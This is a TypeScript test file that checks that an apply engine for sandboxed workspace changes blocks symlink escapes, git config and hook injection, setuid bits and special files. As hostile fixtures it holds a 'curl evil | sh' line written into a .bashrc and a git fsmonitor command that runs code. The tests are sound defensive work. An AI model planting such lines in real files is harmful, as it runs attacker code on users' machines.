import { execFile } from 'node:child_process';
import { lstat, mkdir, mkdtemp, readdir, readFile, rename, rm, stat, symlink } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runPlan } from './apply-engine.js';
import { HostFolder } from './host-folder.js';
import { ReviewHistory } from './review-history.js';
import { ScriptedChangeSource, writeTree } from './review-test-kit.js';
import { treeHash } from './tree-hash.js';
import { WorkspaceReview } from './workspace-review.js';

// The guest is hostile: whatever it stages and whatever the user confirms, nothing is written
// outside the folder, protected files are not applied by "apply all", setuid bits and special
// files never land.
const run = promisify(execFile);
let dir: string;
let folder: string;
let outside: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'viv-sec-'));
  folder = join(dir, 'folder');
  outside = join(dir, 'home');
  await writeTree(outside, { '.bashrc': 'the user\'s own\n' });
  await mkdir(folder);
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

function review(src: ScriptedChangeSource): WorkspaceReview {
  return new WorkspaceReview({ folder, dataDir: join(dir, 'data'), source: src });
}

describe('never outside the folder', () => {
  it('a staged link a -> $HOME followed by a/.bashrc writes nothing outside, whatever is confirmed', async () => {
    const before = await treeHash(outside);
    const src = new ScriptedChangeSource([]).entry('a', 'symlink', { linkTarget: outside }).file('a/.bashrc', 'curl evil | sh\n')
      .entry('rel', 'symlink', { linkTarget: '../home' }).file('rel/.bashrc', 'curl evil | sh\n');
    const r = review(src);
    await r.recordTaskStart('t');
    const all = await r.apply('all');
    expect(all.applied).toEqual([]);
    for (const p of ['a', 'a/.bashrc', 'rel', 'rel/.bashrc']) {
      const one = await r.applyConfirmed(p);
      expect(one.applied, p).toEqual([]);
      expect(one.skipped[0]?.reason, p).toMatch(/link|leaves the folder|outside/);
    }
    expect((await treeHash(outside)).digest).toBe(before.digest);
    expect(await readdir(folder)).toEqual([]);
  });

  it('a user\'s own link inside the folder is never written through', async () => {
    await symlink(outside, join(folder, 'homelink'));
    const before = await treeHash(outside);
    const src = new ScriptedChangeSource([]).file('homelink/.bashrc', 'evil');
    const r = review(src);
    await r.recordTaskStart('t');
    expect((await r.applyConfirmed('homelink/.bashrc')).skipped[0]?.reason).toMatch(/symbolic link/);
    expect((await treeHash(outside)).digest).toBe(before.digest);
  });

  it.each([false, true])('the engine itself refuses to write through a link it just made (checked paths: %s)', async (checkedPaths) => {
    const before = await treeHash(outside);
    const host = await HostFolder.open(folder, { checkedPaths });
    const steps = [
      { op: 'put' as const, path: 'a', pre: null, content: { kind: 'symlink' as const, target: outside }, mode: 0, tempDir: '' },
      { op: 'put' as const, path: 'a/.bashrc', pre: null, content: { kind: 'staged' as const, size: 4 }, mode: 0o644, tempDir: '' },
    ];
    const src = new ScriptedChangeSource([]).file('a/.bashrc', 'evil');
    await expect(runPlan({ id: 'sec-1', kind: 'apply', steps, drop: () => [], host, dataDir: join(dir, 'data'), history: new ReviewHistory(join(dir, 'data', 'history')), source: src }))
      .rejects.toThrow(/symbolic link|not a folder|does not exist/); // puts run side by side: `a` may not be there yet
    await host.close();
    expect((await treeHash(outside)).digest).toBe(before.digest);
    expect(await readdir(folder)).toEqual([]);
  });

  it.each([false, true])('a folder swapped for a link during the apply is not written through (checked paths: %s)', async (checkedPaths) => {
    await writeTree(folder, { 'd/keep.txt': 'k' });
    const before = await treeHash(outside);
    const host = await HostFolder.open(folder, { checkedPaths });
    const steps = [
      { op: 'put' as const, path: 'z.txt', pre: null, content: { kind: 'staged' as const, size: 1 }, mode: 0o644, tempDir: '' },
      // The temp file sits in the root, so a rename that followed the swapped-in link would land outside.
      { op: 'put' as const, path: 'd/.bashrc', pre: null, content: { kind: 'staged' as const, size: 4 }, mode: 0o644, tempDir: '' },
    ];
    const src = new ScriptedChangeSource([]).file('z.txt', 'z').file('d/.bashrc', 'evil');
    const hooks = {
      onStep: async (phase: string, n: number): Promise<void> => {
        if (phase !== 'commit' || n !== 1) return;
        await rename(join(folder, 'd'), join(folder, 'd.moved')); // another program swaps the folder for a link
        await symlink(outside, join(folder, 'd'));
      },
    };
    const outcome = await runPlan({ id: 'sec-2', kind: 'apply', steps, drop: () => [], host, dataDir: join(dir, 'data'), history: new ReviewHistory(join(dir, 'data', 'history')), source: src, hooks })
      .then(() => 'applied', (e: Error) => e.message);
    await host.close();
    expect((await treeHash(outside)).digest).toBe(before.digest);
    expect((await lstat(join(folder, 'd'))).isSymbolicLink()).toBe(true);
    if (checkedPaths) {
      // Parents are checked before each step: the swapped-in link stops the apply, which rolls back.
      expect(outcome).toMatch(/symbolic link/);
      expect((await readdir(folder)).sort()).toEqual(['d', 'd.moved']);
    } else {
      // The folder was opened (O_NOFOLLOW) before the swap: the write lands in that folder, now d.moved.
      expect(outcome).toBe('applied');
      expect(await readFile(join(folder, 'd.moved/.bashrc'), 'utf8')).toBe('evil');
      expect((await readdir(folder)).sort()).toEqual(['d', 'd.moved', 'z.txt']);
    }
  });
});

describe('protected paths, setuid, special files', () => {
  it('apply-all leaves .git/config and hooks alone, and git status on the host then runs nothing of the guest\'s', async () => {
    await run('git', ['init', '-q', folder]);
    await writeTree(folder, { 'src.txt': 'v1\n' });
    const config = await readFile(join(folder, '.git/config'), 'utf8');
    const marker = join(dir, 'pwned');
    const evil = `${config}[core]\n\tfsmonitor = "touch ${marker}; false"\n`;
    const src = new ScriptedChangeSource([]).entry('.git', 'dir').file('.git/config', evil).entry('.git/hooks', 'dir')
      .file('.git/hooks/pre-commit', `#!/bin/sh\ntouch ${marker}\n`, 0o755).file('src.txt', 'v2\n');
    const r = review(src);
    await r.recordTaskStart('t');
    const res = await r.apply('all');
    expect(res.applied).toEqual(['src.txt']);
    expect(res.skipped.map((s) => s.path).sort()).toEqual(['.git/config', '.git/hooks/pre-commit']);
    expect(res.skipped.every((s) => /runs code on your computer/.test(s.reason))).toBe(true);
    expect(await readFile(join(folder, '.git/config'), 'utf8')).toBe(config);
    await run('git', ['-C', folder, 'status', '--porcelain']);
    await run('git', ['-C', folder, 'add', '-A']);
    await run('git', ['-C', folder, '-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'x']);
    await expect(stat(marker)).rejects.toThrow();
    expect((await r.summary()).protected).toBe(2);
  });

  it('setuid and setgid bits never land, even when confirmed; FIFOs and devices are never applied', async () => {
    const src = new ScriptedChangeSource([]).file('suid', '#!/bin/sh\n', 0o6755).entry('fifo', 'fifo').entry('dev', 'char').entry('sock', 'socket');
    const r = review(src);
    await r.recordTaskStart('t');
    expect((await r.apply('all')).applied).toEqual([]); // suid becomes executable: protected
    expect((await r.applyConfirmed('suid')).applied).toEqual(['suid']);
    expect((await stat(join(folder, 'suid'))).mode & 0o7777).toBe(0o755);
    for (const p of ['fifo', 'dev', 'sock']) expect((await r.applyConfirmed(p)).skipped[0]?.reason, p).toMatch(/never applied/);
    expect((await readdir(folder)).sort()).toEqual(['suid']);
  });
});
